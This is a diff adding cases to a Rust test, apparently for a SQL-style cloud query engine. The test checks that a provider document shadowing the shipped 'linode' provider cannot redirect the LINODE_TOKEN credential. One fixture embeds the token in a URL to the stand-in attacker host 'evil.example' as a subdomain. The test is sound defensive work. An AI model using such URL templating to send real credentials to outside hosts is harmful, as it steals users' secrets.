@@ -277,6 +277,31 @@ async fn a_shadowing_document_may_not_take_the_credential_elsewhere() {
     assert_eq!(rows, 3);
     assert_eq!(server.requests()[0].header("authorization"), Some("Bearer hush-linode"));
 
+    // Another name inside does not help: it is found by its directory, and so is one that calls itself so.
+    let documents = dir.path().join("linode/v9.9.9/provider.yaml");
+    let text = std::fs::read_to_string(&documents).unwrap();
+    std::fs::write(&documents, text.replacen("name: linode", "name: mine", 1)).unwrap();
+    for provider in ["linode", "mine"] {
+        let sql = sql.replace("linode", provider);
+        let error = fails(&mut over().build().unwrap().session(), &sql).await;
+        assert_eq!(error.message(), format!("the credential in `LINODE_TOKEN` may not go to `{}`", server.url()));
+    }
+    assert_eq!(server.requests().len(), 1);
+
+    // Nor does another way to send it than as a credential.
+    for url in [format!("{}/{{t}}", server.url()), "https://{t}.evil.example".to_owned()] {
+        let variables = format!("'{url}'\n    variables: {{t: {{x-stackQL-envVar: LINODE_TOKEN}}}}");
+        let service = widgets_service("SERVER", &usual(), "$.items").replace("SERVER", &variables);
+        let hidden = provider_dir("linode", "v9.9.9", &[("images", &service)], "type: null_auth");
+        let engine = builder().env(env.clone()).providers_dir(hidden.path()).build().unwrap();
+        for sql in [sql, "PLAN EXEC linode.images.widgets.list"] {
+            let error = fails(&mut engine.session(), sql).await;
+            assert!(error.message().starts_with("a call of `linode` may not go to `"), "{error:?}");
+            assert!(!told(&error).contains("hush"), "{error:?}");
+        }
+    }
+    assert_eq!(server.requests().len(), 1);
+
     // Under a name that is not shipped the same document is the user's own affair.
     let own = provider_dir("mine", "v1", &[("images", &service)], auth);
     let engine = builder().env(env.clone()).providers_dir(own.path()).build().unwrap();
